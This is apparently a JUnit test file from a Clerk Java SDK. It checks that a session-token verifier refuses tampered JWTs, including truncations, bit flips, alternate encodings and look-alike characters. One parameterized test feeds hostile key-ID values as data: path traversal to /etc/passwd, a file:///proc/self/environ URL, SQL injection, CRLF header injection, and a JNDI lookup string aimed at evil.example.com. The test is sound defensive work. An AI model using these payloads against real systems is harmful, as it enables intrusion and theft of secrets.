package com.clerk.sdk.auth;

import static com.clerk.sdk.auth.TestTokens.ISSUER;
import static com.clerk.sdk.auth.TestTokens.KEYS;
import static com.clerk.sdk.auth.TestTokens.KEY_ID;
import static com.clerk.sdk.auth.TestTokens.OTHER_KEYS;
import static com.clerk.sdk.auth.TestTokens.PARTY;
import static com.clerk.sdk.auth.TestTokens.claims;
import static com.clerk.sdk.auth.TestTokens.header;
import static com.clerk.sdk.auth.TestTokens.outcome;
import static com.clerk.sdk.auth.TestTokens.signed;
import static com.clerk.sdk.auth.TestTokens.token;
import static com.clerk.sdk.auth.TestTokens.with;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Valid tokens with one change, sent to a verifier that loads its keys from a server and one that has them. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AlteredTokenTest {
    private static final String DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    private final KeyServer clerk = KeyServer.of(KEYS);
    private final SessionTokenVerifier remote =
            clerk.verifier().authorizedParties(PARTY).issuers(ISSUER).build();
    private final SessionTokenVerifier local =
            TestTokens.verifier().authorizedParties(PARTY).issuers(ISSUER).build();
    private final String good = TestTokens.token();

    @BeforeAll
    void aGoodTokenIsAccepted() {
        assertThat(outcome(remote, good)).isEqualTo("ok");
        assertThat(outcome(local, good)).isEqualTo("ok");
    }

    @AfterAll
    void close() {
        remote.close();
        clerk.close();
    }

    private void assertRefused(String token) {
        assertThat(outcome(remote, token)).as(token).isNotEqualTo("ok");
        assertThat(outcome(local, token)).as(token).isNotEqualTo("ok");
    }

    @Test
    void aTokenCutOffAnywhereIsRefused() {
        for (int length = 0; length < good.length(); length++) {
            assertRefused(good.substring(0, length));
            assertRefused(good.substring(good.length() - length));
        }
    }

    @Test
    void aTokenWithAnyBitFlippedIsRefused() {
        var bytes = good.getBytes(StandardCharsets.ISO_8859_1);
        for (int i = 0; i < bytes.length; i++) {
            for (int bit = 0; bit < 8; bit++) {
                bytes[i] ^= (byte) (1 << bit);
                assertThat(outcome(local, new String(bytes, StandardCharsets.ISO_8859_1)))
                        .as("bit %d of byte %d", bit, i)
                        .isNotEqualTo("ok");
                bytes[i] ^= (byte) (1 << bit);
            }
        }
    }

    @Test
    void aTokenWithAnyBitOfItsContentFlippedIsRefused() {
        var parts = good.split("\\.");
        for (int part = 0; part < 3; part++) {
            var changed = parts.clone();
            var bytes = Base64.getUrlDecoder().decode(parts[part]);
            for (int i = 0; i < bytes.length * 8; i++) {
                bytes[i / 8] ^= (byte) (1 << (i % 8));
                changed[part] = TestTokens.base64Url(bytes);
                assertThat(outcome(local, String.join(".", changed)))
                        .as("bit %d of part %d", i, part)
                        .isNotEqualTo("ok");
                bytes[i / 8] ^= (byte) (1 << (i % 8));
            }
        }
    }

    /** A signature has only one encoding, so nobody can create a different token with the same content. */
    @Test
    void aPartWithOtherBitsLeftOverAtItsEndIsRefused() {
        int checked = 0;
        for (var claims : List.of(claims(), with(claims(), "x", "1"), with(claims(), "x", "12"))) {
            var parts = signed(header(), claims).split("\\.");
            for (int part = 0; part < 3; part++) {
                int spare = new int[] {0, 0, 16, 4}[parts[part].length() % 4];
                for (int bits = 1; bits < spare; bits++) {
                    var changed = parts.clone();
                    int last = parts[part].length() - 1;
                    var digit = DIGITS.charAt(DIGITS.indexOf(parts[part].charAt(last)) | bits);
                    changed[part] = parts[part].substring(0, last) + digit;
                    assertThat(Base64.getUrlDecoder().decode(changed[part]))
                            .isEqualTo(Base64.getUrlDecoder().decode(parts[part]));
                    assertRefused(String.join(".", changed));
                    checked++;
                }
            }
        }
        assertThat(checked).isGreaterThan(45);
    }

    @Test
    void otherWaysToWriteASignatureAreRefused() {
        int dot = good.lastIndexOf('.') + 1;
        var start = good.substring(0, dot);
        var signature = good.substring(dot);
        var bytes = Base64.getUrlDecoder().decode(signature);
        for (var other : List.of(
                Base64.getEncoder().encodeToString(concat(bytes, 0)),
                TestTokens.base64Url(concat(bytes, 0)),
                TestTokens.base64Url(concat(bytes, 1)),
                TestTokens.base64Url(concat(new byte[1], bytes)),
                TestTokens.base64Url(concat(new byte[0], Arrays.copyOf(bytes, bytes.length - 1))),
                TestTokens.base64Url(concat(bytes, bytes)),
                TestTokens.base64Url(new byte[bytes.length]),
                signature + "=",
                signature + "===",
                signature + "\n",
                signature + " ",
                signature.substring(0, 4) + "\r\n" + signature.substring(4),
                "=" + signature,
                signature.replace('_', '/').replace('-', '+') + "/",
                "")) {
            assertRefused(start + other);
        }
    }

    private static byte[] concat(byte[] bytes, int next) {
        return concat(bytes, new byte[] {(byte) next});
    }

    private static byte[] concat(byte[] one, byte[] two) {
        var both = Arrays.copyOf(one, one.length + two.length);
        System.arraycopy(two, 0, both, one.length, two.length);
        return both;
    }

    @Test
    void theUsualAlphabetOfBase64IsRefused() {
        int seen = 0;
        for (int i = 0; i < 20; i++) {
            var token = signed(header(), with(claims(), "x", i));
            var other = token.replace('_', '/').replace('-', '+');
            if (!other.equals(token)) {
                seen++;
                assertRefused(other);
            }
        }
        assertThat(seen).isPositive();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/etc/passwd",
                "..\\..\\nul",
                "ins_test\u0000",
                "\u0000",
                "ins_test'; DROP TABLE keys; --",
                "' OR '1'='1",
                "ins_test\r\nX-Evil: 1",
                "https://evil.example.com/jwks.json",
                "file:///proc/self/environ",
                "?x=1#y",
                "%2e%2e%2f",
                "${jndi:ldap://evil.example.com/a}",
                "ins_test ",
                " ins_test",
                "INS_TEST",
                "ins\uFF3Ftest",
                "\u0456ns_test",
                "ins_te\u0301st",
                "__proto__",
                ""
            })
    void aKeyIdIsNothingButAName(String id) {
        assertNoKeyIsNamed(id);
    }

    @Test
    void aKeyIdMayHaveAnyLength() {
        assertNoKeyIsNamed("k".repeat(30_000));
        assertNoKeyIsNamed(KEY_ID.repeat(1000));
    }

    private void assertNoKeyIsNamed(String id) {
        var failure = catchThrowableOfType(TokenVerificationException.class, () -> remote.verify(token(KEYS, id)));
        assertThat(failure.reason()).isEqualTo(TokenVerificationReason.JWK_KID_MISMATCH);
        assertThat(failure.getMessage()).matches("[ -~]{1,400}").doesNotContain("Evil");
        assertThat(clerk.requests()).allMatch(request -> request.getTarget().equals("/v1/jwks"));
    }

    @Test
    void aKeyIdThatIsNotAStringNamesNoKey() {
        for (var id : new Object[] {1, true, List.of(KEY_ID), Map.of("a", KEY_ID), 0.5}) {
            assertThat(outcome(remote, signed(with(header(), "kid", id), claims())))
                    .isEqualTo("jwk-kid-mismatch");
        }
        assertThat(outcome(remote, signed(with(header(), "kid", null), claims())))
                .isEqualTo("jwk-kid-mismatch");
        assertThat(outcome(remote, signed(TestTokens.without(header(), "kid"), claims())))
                .isEqualTo("jwk-kid-mismatch");
    }

    @Test
    void aTokenOfAnotherInstanceWithTheSameKeyIdIsRefused() {
        assertThat(outcome(remote, token(OTHER_KEYS, KEY_ID))).isEqualTo("token-invalid-signature");
    }

    /** All are signed with the right key: similar texts are not equal. */
    @Test
    void lookAlikesAreNotTheSame() {
        var tokens = new ArrayList<String>();
        for (var algorithm : List.of("\uFF32\uFF33256", "RS\uFF12\uFF15\uFF16", "RS\u0662\u0665\u0666", "R\u0405256")) {
            tokens.add(signed(with(header(), "alg", algorithm), claims()));
        }
        for (var type : List.of("\uFF2A\uFF37\uFF34", "J\u0428T", "JW\u0422", "JWT\u200B", "\u202EJWT")) {
            tokens.add(signed(with(header(), "typ", type), claims()));
        }
        for (var party : List.of(
                "https://\u0430pp.example.com",
                "https://app\u3002example.com",
                "https://app.example.c\u043Em",
                "https://app.ex\u00ADample.com",
                "https://app.example.com\u0000",
                "HTTPS://APP.EXAMPLE.COM",
                "https://app.example.com.")) {
            tokens.add(signed(header(), with(claims(), "azp", party)));
        }
        for (var issuer :
                List.of("https://cl\u0435rk.example.com", "https://c\u217Cerk.example.com", ISSUER + "\uFEFF")) {
            tokens.add(signed(header(), with(claims(), "iss", issuer)));
        }
        tokens.add(signed(header(), with(TestTokens.without(claims(), "sub"), "\u0455ub", "user_1")));
        tokens.add(signed(header(), with(TestTokens.without(claims(), "exp"), "ex\u0440", TestTokens.NOW + 60)));
        tokens.forEach(this::assertRefused);
    }

    @Test
    void dotsThatOnlyLookLikeDotsSeparateNothing() {
        for (var dot : List.of("\uFF0E", "\u3002", "\u2024", "\u00B7", "\u0701", "%2E", "&#46;")) {
            assertThat(outcome(remote, good.replace(".", dot))).isEqualTo("token-invalid");
            assertThat(outcome(remote, good.replaceFirst("\\.", dot))).isEqualTo("token-invalid");
        }
    }

    /** A narrowing of characters to bytes must not turn a foreign one into a digit of base64. */
    @Test
    void aCharacterThatEndsInTheByteOfAnotherIsNotThatOther() {
        for (int i = 0; i < good.length(); i++) {
            for (int high : new int[] {0x100, 0x4E00, 0xFF00}) {
                var changed = new StringBuilder(good);
                changed.setCharAt(i, (char) (high | good.charAt(i)));
                assertThat(outcome(local, changed.toString())).isEqualTo("token-invalid");
            }
        }
    }
}
